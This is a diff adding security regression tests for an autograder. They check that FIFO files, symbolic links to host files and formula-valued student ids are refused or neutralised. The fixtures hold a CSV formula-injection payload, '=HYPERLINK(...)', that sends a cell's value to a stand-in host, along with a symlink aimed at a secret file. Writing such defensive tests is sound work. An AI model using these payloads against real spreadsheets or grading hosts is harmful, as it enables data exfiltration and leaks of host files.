@@ -1,0 +1,66 @@
+"""Hostile files in a submission folder: a FIFO, a link to a host file, a student id that is a formula.
+
+Each was a hole before: a FIFO named like the notebook blocked the grader and
+the similarity screen for ever; a link was followed, and the "not a
+notebook" message quoted the first bytes of whatever host file it named;
+a student id such as ``=HYPERLINK(...)`` became a live formula in
+cohort.csv. Each is now refused or neutralised, with a clear reason, and
+the other students are still handled.
+"""
+from __future__ import annotations
+
+import csv
+import io
+import os
+
+from autograder import cohort, similarity
+from autograder.grader import grade
+from tests import samples
+
+A = "02_activations"
+SECRET = "host-secret-7c1f"
+
+
+def test_a_fifo_named_like_the_notebook_is_refused_at_once(tmp_path):
+    folder = tmp_path / "eve" / A
+    folder.mkdir(parents=True)
+    os.mkfifo(folder / f"{A}.ipynb")
+    report = grade(folder, A)  # would block for ever if the FIFO were opened for reading
+    assert report.score == 0 and "is not a regular file" in report.error
+    assert cohort.submission_files(folder) == []
+
+
+def test_a_link_to_a_host_file_is_never_read(tmp_path):
+    host_file = tmp_path / "grader-secret.txt"
+    host_file.write_text(SECRET + " not json")
+    folder = tmp_path / "eve" / A
+    folder.mkdir(parents=True)
+    (folder / f"{A}.ipynb").symlink_to(host_file)
+    report = grade(folder / f"{A}.ipynb", A)
+    assert report.score == 0 and "is a symbolic link" in report.error
+    assert SECRET not in report.table(detail=True)
+    assert cohort.submission_files(folder) == []  # grade-all sees no notebook there: "holds no notebook"
+
+
+def test_the_similarity_screen_skips_fifos_and_links_and_compares_the_rest(tmp_path):
+    for student in ("ada", "bob"):
+        samples.write(samples.student_notebook(A), tmp_path / student, A)
+    os.mkfifo(tmp_path / "fifo-student.ipynb")
+    (tmp_path / "eve" / A).mkdir(parents=True)
+    (tmp_path / "eve" / A / f"{A}.ipynb").symlink_to(tmp_path / "fifo-student.ipynb")
+    (tmp_path / "mal" / A).mkdir(parents=True)
+    os.mkfifo(tmp_path / "mal" / A / "other.ipynb")
+    submissions, skipped = similarity.load_submissions(tmp_path, A)
+    assert sorted(submissions) == ["ada", "bob"]
+    assert sorted(student for student, _ in skipped) == ["eve", "mal"]
+
+
+def test_a_student_id_or_reason_that_is_a_formula_stays_text_in_cohort_csv():
+    records = [{"student": '=HYPERLINK("http://x.example/?"&A1,"click")', "graded_at": "2026-11-29",
+                "fingerprint": "0" * 64,
+                "report": {"score": 0, "max_score": 10, "tests": [], "error": "@SUM(1+1)", "seconds": 1.0}},
+               {"student": "ada", "graded_at": "2026-11-29", "fingerprint": "0" * 64,
+                "report": {"score": 10, "max_score": 10, "tests": [], "error": None, "seconds": 1.0}}]
+    rows = list(csv.DictReader(io.StringIO(cohort.cohort_csv(records, A))))
+    assert rows[0]["student"].startswith("'=HYPERLINK") and rows[0]["reason"] == "'@SUM(1+1)"
+    assert rows[1]["student"] == "ada" and rows[1]["reason"] == ""
